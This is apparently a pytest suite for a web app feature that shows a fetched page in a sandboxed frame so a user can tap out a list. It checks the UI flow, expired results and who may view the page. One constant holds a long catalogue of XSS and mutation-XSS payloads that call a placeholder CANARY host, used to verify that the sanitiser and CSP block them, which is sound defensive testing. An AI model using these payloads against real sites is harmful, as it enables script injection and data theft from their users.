"""A list is pointed at on its page, which is shown in a frame where its scripts don't run and no request leaves."""

import pytest

from conftest import DESK, PATIENCE, PHONE, until
from publisher import Publisher, a_file
from test_accessibility import broken_rules
from test_correcting import OVERFLOW
from test_new_board import call, page_of, token_of

NAMES = ["Anker", "Birke", "Cirrus", "Dune"]


def lamps() -> bytes:
    cards = "".join(f"<li><b>Lamp {name}</b> <i>{place + 4}.50 €</i> <u>Free delivery</u></li>" for place, name in enumerate(NAMES))
    return page_of(f"<h1>Lamps</h1><p>We have many.</p><ul>{cards}</ul><p>Made by hand</p>")


@pytest.fixture
def shop(publisher: Publisher) -> Publisher:
    publisher.answers("/lamps", a_file(lamps()))
    return publisher


def pointing(server, publisher, open_page, viewport=PHONE, path="/lamps", **options):
    page = open_page(f"{server.url}/new-board", viewport, session=server.log_in("ada"), **options)
    page.fill("[name=address]", publisher.url(path))
    page.click("button:has-text('Look')")
    page.click("a:has-text('Point at it on the page')", timeout=PATIENCE * 1000)
    page.wait_for_selector("h1:has-text('Point at the list')", timeout=PATIENCE * 1000)
    return page


def tap(page, text: str):
    page.frame_locator(".point-frame").locator(f"button:text-is('{text}')").first.click()
    page.wait_for_load_state()  # A click while the frame still moves what is below it goes astray.


@pytest.mark.parametrize("scripts", [True, False], ids=["with scripts", "without"])
def test_two_taps_find_the_list_and_more_choose_its_fields(serve, shop, open_page, scripts):
    server = serve("--allow-hosts", shop.host)
    server.add_person("ada")
    page = pointing(server, shop, open_page, java_script_enabled=scripts)
    assert page.evaluate(OVERFLOW) == 0
    tap(page, "Lamp Birke")
    page.wait_for_selector("text=Now tap some text in another row", timeout=PATIENCE * 1000)
    tap(page, "6.50 €")
    page.wait_for_selector("h2:has-text('4 rows')", timeout=PATIENCE * 1000)
    frame = page.frame_locator(".point-frame")
    until(lambda: (frame.locator(".is-row").count(), frame.locator("button.is-field").count()) == (4, 8))  # The frame loads after the page.
    tap(page, "Free delivery")
    page.wait_for_selector("td:has-text('Free delivery')", timeout=PATIENCE * 1000)
    until(lambda: page.frame_locator(".point-frame").locator("button.is-field").count() == 12)
    tap(page, "Free delivery")
    page.wait_for_selector("td:has-text('Free delivery')", state="detached", timeout=PATIENCE * 1000)
    tap(page, "Made by hand")
    page.wait_for_selector("[role=alert]:has-text('can’t be a field')", timeout=PATIENCE * 1000)
    assert page.evaluate(OVERFLOW) == 0
    page.click("a:has-text('Continue with this list')")
    page.wait_for_selector("h1:has-text('Correct the list')", timeout=PATIENCE * 1000)
    page.click("button:has-text('Use this list')")
    page.wait_for_selector("h1:has-text('Words') >> nth=0", timeout=PATIENCE * 1000)
    server.wait_until_all_read("words", 1)
    page.goto(f"{server.url}/boards/words")
    assert "Lamp Dune" in page.inner_text("main")


def test_two_texts_of_one_row_are_no_list_and_all_starts_again(serve, shop, open_page):
    server = serve("--allow-hosts", shop.host)
    server.add_person("ada")
    page = pointing(server, shop, open_page, DESK)
    tap(page, "We have many.")
    page.wait_for_selector("text=Now tap some text in another row", timeout=PATIENCE * 1000)
    tap(page, "Lamps")
    page.wait_for_selector("[role=alert]:has-text('can’t find a list')", timeout=PATIENCE * 1000)
    assert "Tap some text in one row" in page.inner_text("main")
    assert broken_rules(page, "pointing") == []


def test_a_page_that_has_expired_leads_to_a_search_of_the_same_address(serve, shop, open_page, console):
    console.expected.append("status of 422")
    server = serve("--allow-hosts", shop.host)
    server.add_person("ada")
    page, token = pointing(server, shop, open_page), token_of(server, "ada")
    page.frame_locator(".point-frame").locator("button:text-is('Lamp Birke')").wait_for()
    for _ in range(3):
        assert call(server, token, "POST", "/api/v1/lists", {"address": shop.url("/lamps")})[0] == 200
    frame = page.request.get(f"{server.url}{page.get_attribute('.point-frame', 'src')}")
    assert (frame.status, "These results have expired" in frame.text()) == (422, True)
    assert "frame-ancestors 'self'" in frame.headers["content-security-policy"]
    tap(page, "Lamp Birke")
    page.wait_for_selector("#field-address-problem:has-text('These results have expired')", timeout=PATIENCE * 1000)
    assert page.input_value("[name=address]") == shop.url("/lamps")
    page.click("button:has-text('Look')")
    page.wait_for_selector("a:has-text('Point at it on the page')", timeout=PATIENCE * 1000)


# What would run or send requests if the page were shown unchanged; CANARY is the address of a server that counts.
ATTACKS = """
<script>fetch("CANARY/script")</script><script src="CANARY/src.js"></script><img src="CANARY/img" onerror="fetch('CANARY/onerror')">
<img srcset="CANARY/srcset 1x" loading="eager"><picture><source srcset="CANARY/source"><img src="x"></picture><input type="image" src="CANARY/input">
<link rel="stylesheet" href="CANARY/css"><link rel="preload" as="image" href="CANARY/preload"><link rel="prefetch" href="CANARY/prefetch">
<link rel="dns-prefetch" href="CANARY"><link rel="preconnect" href="CANARY"><link rel="icon" href="CANARY/icon"><link rel="manifest" href="CANARY/manifest">
<style>@import "CANARY/import"; @font-face { font-family: x; src: url(CANARY/font) } body { background: url(CANARY/background); font-family: x }</style>
<p style="background-image: url('CANARY/inline')" background="CANARY/attribute">styled</p><table background="CANARY/table"><tr><td background="CANARY/td">cell</td></tr></table>
<meta http-equiv="refresh" content="0; url=CANARY/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *"><base href="CANARY/base/" target="_blank">
<iframe src="CANARY/iframe"></iframe><iframe srcdoc="<img src=CANARY/srcdoc>"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed">
<frameset><frame src="CANARY/frame"></frameset><video src="CANARY/video" poster="CANARY/poster" autoplay></video><audio src="CANARY/audio" autoplay></audio>
<svg><script>fetch("CANARY/svgscript")</script><image href="CANARY/svgimage"/><use href="CANARY/use#a"/><animate onbegin="fetch('CANARY/begin')" attributeName="x" dur="1s"/>
<foreignObject><img src="CANARY/foreign"></foreignObject></svg>
<svg><style><img src=x onerror="fetch('CANARY/svgstyle')"></style></svg><svg></p><style><a id="</style><img src=CANARY/mxss1 onerror=fetch('CANARY/mxss1e')>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=CANARY/mxss2 onerror=fetch('CANARY/mxss2e')&gt;"></math>
<noscript><p title="</noscript><img src=CANARY/noscript onerror=fetch('CANARY/noscripte')>"></noscript><template><img src="CANARY/template"></template>
<template shadowrootmode="open"><img src="CANARY/shadow"></template><form action="CANARY/form" id="f"><input name="secret" autofocus onfocus="fetch('CANARY/focus')"><button>Send</button></form>
<button form="f" formaction="CANARY/formaction">Go</button><isindex action="CANARY/isindex"><details open ontoggle="fetch('CANARY/toggle')"><summary>more</summary></details>
<a href="javascript:fetch('CANARY/js')" ping="CANARY/ping">link</a><a href="CANARY/leave" target="_top">leave</a><marquee onstart="fetch('CANARY/marquee')">m</marquee>
<p>&lt;img src=CANARY/escaped onerror=alert(1)&gt;</p><img alt='"><img src=CANARY/alt onerror=alert(2)>' src=y>
<p lang='"><script>fetch("CANARY/lang")</script>' class='"><img src=CANARY/class>'>words</p>
<textarea><img src="CANARY/textarea"></textarea><title><img src="CANARY/title"></title><xmp><img src="CANARY/xmp"></xmp><plaintext><img src="CANARY/plaintext">
"""


def test_nothing_of_a_hostile_page_runs_and_nothing_leaves(serve, publisher, open_page, console):
    canary = Publisher()
    try:
        rows = "".join(f"<li><b>Lamp {name}</b> <i>{place + 4}.50 €</i></li>" for place, name in enumerate(NAMES))
        attacks = ATTACKS.replace("CANARY", canary.url(""))
        body = f'<!DOCTYPE html><html lang=\'en"><script>fetch("{canary.url("/htmllang")}")</script>\'><title>Bad</title><body><ul>{rows}</ul><p>&lt;img src=x onerror=alert(1)&gt;</p>{attacks}'
        publisher.answers("/bad", a_file(body.encode()))
        server = serve("--allow-hosts", publisher.host)
        server.add_person("ada")
        page = pointing(server, publisher, open_page, path="/bad")
        dialogs, asked = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.context.on("request", lambda request: asked.append(request.url))
        tap(page, "Lamp Anker")
        page.wait_for_selector("text=Now tap some text in another row", timeout=PATIENCE * 1000)
        tap(page, "Lamp Dune")
        page.wait_for_selector("h2:has-text('4 rows')", timeout=PATIENCE * 1000)
        # The frame loads after the page. The browser's events for it arrive only during other calls.
        frame = until(
            lambda: next((frame for frame in page.frames if "/new-board/pointed" in frame.url), None), meanwhile=lambda: page.wait_for_timeout(10))
        frame.wait_for_load_state("load")
        page.wait_for_load_state("networkidle")
        kinds = set(frame.evaluate("[...document.querySelectorAll('*')].map((element) => element.localName)"))
        allowed = {"html", "head", "meta", "title", "link", "body", "main", "form", "input", "button", "div", "span", "br", "p", "ul", "li"}
        assert kinds <= allowed | {"table", "thead", "tbody", "tfoot", "tr", "td", "th"}, kinds - allowed
        names = set(frame.evaluate("[...document.querySelectorAll('main *')].flatMap((element) => element.getAttributeNames())"))
        assert names <= {"method", "action", "target", "type", "name", "value", "id", "class", "aria-pressed", "dir", "colspan", "rowspan"}, names
        assert "<img src=" in frame.inner_text("main"), "what is text stays text"
        assert [url for url in asked if not url.startswith(server.url)] == []
        assert canary.requests == []
        assert dialogs == []
        answer = page.request.get(frame.url)
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; style-src 'self'")
        assert "allow-scripts" not in policy
        assert "sandbox" in policy
        # Opened by itself in a window, it doesn't run scripts either.
        page.goto(frame.url)
        page.wait_for_load_state("networkidle")
        assert canary.requests == []
        assert dialogs == []
    finally:
        canary.close()


def test_only_the_one_who_looked_sees_the_page(serve, shop, open_page):
    server = serve("--allow-hosts", shop.host)
    server.add_person("ada")
    server.add_person("ben", "member")
    server.add_person("cleo", "administrator")
    page = pointing(server, shop, open_page)
    for path in [page.url, page.url.replace("/point?", "/pointed?")]:
        assert page.request.get(path).status == 200
        for name, status in [("ben", 422), ("cleo", 422)]:
            other = open_page(f"{server.url}/login", session=server.log_in(name))
            assert other.request.get(path).status == status
        for bad in ["&rows=1,2,3&fields=x", "&rows=0,-1", f"&rows=7,8&fields={','.join(map(str, range(2000)))}", "&tap=99999999999999999999"]:
            assert page.request.get(path + bad).status == 200, bad
